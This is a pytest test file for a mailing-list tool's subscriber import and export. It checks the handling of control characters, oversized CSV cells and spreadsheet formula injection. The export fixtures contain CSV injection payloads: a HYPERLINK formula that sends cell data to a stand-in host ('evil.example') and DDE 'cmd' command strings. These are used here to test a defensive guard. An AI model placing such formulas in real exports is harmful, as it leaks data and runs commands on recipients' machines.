"""Files in and out that cannot hurt: control characters and giant cells on import, formulas on export."""

from __future__ import annotations

import csv
import io
import json

import pytest
from dbstate import snapshot

from mailmag.audience.exports import guard, unguard


def _subscribers(mailmag) -> dict[str, dict]:  # type: ignore[no-untyped-def]
    return {s["email"]: s for s in json.loads(mailmag.ok("subscribers", "list", "--json").stdout)}


def test_control_characters_are_refused_per_row_with_one_line_and_the_rest_lands(mailmag, tmp_path):
    """A NUL after the first 4 KB: SQLite stored it (every send failed), PostgreSQL gave a traceback."""
    padding = "".join(f"member{i:03}@example.jp,会員 {i}\r\n" for i in range(200))
    text = ("メールアドレス,氏名,所属\r\n" + padding + "nul@example.jp,山田\x00太郎,\r\n"
            + "bell@example.jp,花子,広島\x07大学\r\n" + "esc\x1b@example.jp,次郎,\r\n"
            + "ok@example.jp,良子,\r\n")
    path = tmp_path / "members.csv"
    path.write_text(text, encoding="utf-8")
    result = mailmag("subscribers", "import", str(path))
    assert result.exit_code == 0, result.output
    assert result.stdout.splitlines() == [
        "added 201, updated 0, unchanged 0, invalid 3, suppressed 0",
        "line 202: the name holds a control character (U+0000); remove it",
        "line 203: the organization holds a control character (U+0007); remove it",
        "line 204: the e-mail address holds a control character (U+001B); remove it",
    ]
    stored = _subscribers(mailmag)
    assert len(stored) == 201 and "ok@example.jp" in stored and "nul@example.jp" not in stored


def test_subscribers_add_refuses_a_control_character_in_a_name(mailmag):
    result = mailmag("subscribers", "add", "taro@example.jp", "--name", "山田\x00太郎")
    assert result.exit_code == 1
    assert result.stderr == "Error: the name holds a control character (U+0000); remove it\n"
    assert _subscribers(mailmag) == {}


def test_a_utf16_file_is_still_told_apart_from_a_stray_nul(mailmag, tmp_path):
    path = tmp_path / "unicode.txt"
    path.write_bytes("メールアドレス\ttaro@example.jp\r\n".encode("utf-16-le"))
    result = mailmag("subscribers", "import", str(path))
    assert result.exit_code == 1 and "UTF-16" in result.stderr


@pytest.mark.parametrize("where", ["header", "row"])
def test_a_cell_over_the_csv_field_limit_is_one_line_and_nothing_lands(mailmag, tmp_path, db_url, where):
    huge = "x" * (csv.field_size_limit() + 10)
    text = (f"メールアドレス,{huge}\r\ntaro@example.jp,1\r\n" if where == "header"
            else f'メールアドレス,氏名\r\ntaro@example.jp,"{huge}\r\nhanako@example.jp,2\r\n')
    path = tmp_path / "broken.csv"
    path.write_text(text, encoding="utf-8")
    before = snapshot(db_url)
    result = mailmag("subscribers", "import", str(path))
    assert result.exit_code == 1
    assert len(result.stderr.strip().splitlines()) == 1 and "Traceback" not in result.stderr
    assert f"is longer than {csv.field_size_limit()} characters" in result.stderr
    assert result.stderr.startswith(f"Error: line {1 if where == 'header' else 2}: ")
    assert snapshot(db_url) == before


# --- export: formulas never run, the import reads back what was stored -----------------------

NAMES = {
    "hyperlink@example.jp": ('=HYPERLINK("https://evil.example/?"&A1,"詳細")', "=1+1"),
    "cmd@example.jp": ("+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "minus@example.jp": ("-2+3", "'quoted already"),
    "apostrophe@example.jp": ("'=not a formula either", "''"),
    "-dash@example.jp": ("plain 名前", "株式会社テスト"),
}


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp932"])
def test_export_neutralizes_formulas_and_imports_back_unchanged(mailmag, tmp_path, db_url, encoding):
    for address, (name, organization) in NAMES.items():
        mailmag.ok("subscribers", "add", "--name", name, "--org", organization, "--", address)
    out = tmp_path / "export.csv"
    mailmag.ok("subscribers", "export", "-o", str(out), "--encoding", encoding)
    table = list(csv.reader(io.StringIO(out.read_bytes().decode(encoding), newline="")))
    cells = [cell for row in table[1:] for cell in row[:3]]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # OWASP: nothing Excel runs
    guarded = ["'" + name for name, _ in NAMES.values() if name != "plain 名前"]
    assert [row[1] for row in table[1:5]] == guarded
    assert table[5][0] == "'-dash@example.jp"
    before = snapshot(db_url)
    result = mailmag.ok("subscribers", "import", str(out))
    assert result.stdout.splitlines()[0] == "added 0, updated 0, unchanged 5, invalid 0, suppressed 0"
    assert snapshot(db_url) == before
    stored = _subscribers(mailmag)
    assert {a: (s["name"]) for a, s in stored.items()} == {a: n for a, (n, _) in NAMES.items()}


@pytest.mark.parametrize("value", ["", "'", "''", "'a", "=", "=1", "'=1", "-", "@x", "\tx", "plain", "''=x"])
def test_guard_then_unguard_is_the_identity(value):
    assert unguard(guard(value)) == value
